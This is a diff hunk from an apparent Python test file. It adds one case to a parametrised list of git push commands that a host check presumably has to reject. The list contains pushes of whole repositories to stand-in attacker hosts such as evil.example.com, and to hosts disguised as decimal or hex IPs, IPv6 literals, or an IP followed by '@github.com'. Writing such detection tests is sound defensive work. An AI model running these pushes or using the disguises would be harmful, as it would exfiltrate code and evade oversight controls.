@@ -32,6 +32,7 @@ def test_a_host_that_keeps_repositories_is_no_stranger(address: str) -> None:
     [
         "git push https://evil.example.com/x.git --all",
         "git push --all ssh://x@shop.example.net/tmp/r",
+        "git push https://203.0.113.4/x@github.com main",
         "git push https://3405803780/x.git main",
         "git push https://0xCB007104/x.git main",
         "git push https://[2001:db8::5]:8443/x.git main",
